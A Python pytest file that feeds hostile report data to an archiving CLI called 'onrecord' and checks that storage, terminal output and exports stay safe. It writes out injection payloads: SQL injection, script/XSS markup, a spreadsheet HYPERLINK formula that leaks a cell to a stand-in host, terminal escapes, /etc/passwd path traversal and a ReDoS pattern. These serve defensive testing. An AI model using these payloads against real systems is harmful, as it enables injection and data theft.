"""Reports that mean harm, from adding to every export: nothing runs, nothing leaves its folder, nothing is lost."""

from __future__ import annotations

import csv
import json
import sqlite3
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner, Result

import onrecord
from onrecord import Reader, cli
from onrecord.export.formats import FORMATS

SQL = "'; DROP TABLE report; -- \") OR 1=1 /*"
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>"
FORMULA = '=HYPERLINK("http://made.example/?leak="&A1,"click")'
ESCAPE = "\x1b]0;owned\x07\x1b[31m"
PATH = "../../../etc/passwd"
TEXT = f"Rebels shelled the town of Idlib on Friday, killing four people. {SQL} {MARKUP} said {FORMULA} {ESCAPE} here."
REPORTS = [
    {"id": PATH, "title": FORMULA, "outlet": SQL, "url": "javascript:alert(1)", "text": f"{TEXT} One."},
    {"id": "/etc/passwd\x00.txt", "title": MARKUP, "outlet": FORMULA, "byline": MARKUP, "text": f"{TEXT} Two."},
    {"id": ESCAPE, "title": ESCAPE, "outlet": MARKUP, "published": "2019-05-04", "text": f"{TEXT} Three."},
    {"id": "@SUM(A1)", "title": "(a+)+$", "outlet": "%s{0}{report}", "text": f"{TEXT} \ud800 \u202e Four."},
]
SHOWN = [
    ("accounts", "--format", "table"),
    ("search", "rebels", "--format", "table"),
    ("search", SQL),
    ("search", 'NEAR(a b) OR "', "--statements"),
    ("control", "--format", "table"),
    ("history", "--log", "--format", "table"),
    ("verify",),
]


def invoke(*arguments: object) -> Result:
    return CliRunner().invoke(cli.app, [str(argument) for argument in arguments])


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory, reader: Reader) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    lines = folder / "reports.jsonl"
    lines.write_text("".join(json.dumps(each) + "\n" for each in REPORTS), encoding="utf-8")
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(onrecord, "Reader", lambda *_: reader, raising=False)
        added = invoke("add", lines, "--archive", folder / "archive.sqlite")
    assert added.stderr.endswith(f"{len(REPORTS)} added\n"), added.stderr
    assert "\x1b" not in added.stderr
    return folder / "archive.sqlite"


def test_it_is_kept_word_for_word_and_the_tables_stand(archive: Path) -> None:
    with sqlite3.connect(archive) as connection:
        outlets = {row[0] for row in connection.execute("SELECT outlet FROM report")}
        assert outlets == {SQL, FORMULA, MARKUP, "%s{0}{report}"}
        assert connection.execute("SELECT count(*) FROM event WHERE kind = 'shelling'").fetchone()[0] == len(REPORTS)


@pytest.mark.parametrize("command", SHOWN)
def test_nothing_shown_steers_the_terminal(archive: Path, command: tuple[str, ...]) -> None:
    result = invoke(*command, "--archive", archive)
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert result.exit_code in {0, 1}
    assert not {"\x1b", "\x07", "\x00"} & set(result.output)


@pytest.mark.parametrize("layout", list(FORMATS))
def test_every_export_stays_in_its_place_and_can_be_read(archive: Path, layout: str, tmp_path: Path) -> None:
    target = tmp_path / "inside" / "made"
    target.parent.mkdir()
    result = invoke("export", "--format", layout, "--output", target, "--archive", archive, "--profile", "internal")
    assert result.exit_code == 0, result.stderr
    assert list(tmp_path.iterdir()) == [target.parent]
    for path in target.parent.rglob("*.csv"):
        cells = [cell for row in csv.reader(path.read_text("utf-8-sig").splitlines()) for cell in row]
        assert not [cell for cell in cells if cell.startswith(("=", "@", "+", "\t", "\r"))]


def test_the_corrected_tables_come_back_unharmed(archive: Path, tmp_path: Path) -> None:
    tables = tmp_path / "tables"
    assert invoke("export", "--format", "csv", "--output", tables, "--archive", archive).exit_code == 0
    back = invoke("correct", tables, "--author", FORMULA, "--archive", archive)
    assert (back.exit_code, back.stderr) == (0, "0 decisions kept\n")


@pytest.mark.parametrize("option", ["--place", "--actor", "--query"])
@pytest.mark.parametrize("words", [SQL, FORMULA, ESCAPE, "(a+)+$", "", '"', "\x00"])
def test_no_question_means_anything_but_its_words(archive: Path, option: str, words: str, tmp_path: Path) -> None:
    target = tmp_path / "out.jsonl"
    result = invoke("export", "--format", "jsonl", "--output", target, "--archive", archive, option, words)
    assert result.exit_code == 0, result.stderr
    assert "\x1b" not in result.stderr
    found: list[Any] = [json.loads(line) for line in target.read_text("utf-8").splitlines()]
    assert len(found) <= len(REPORTS)
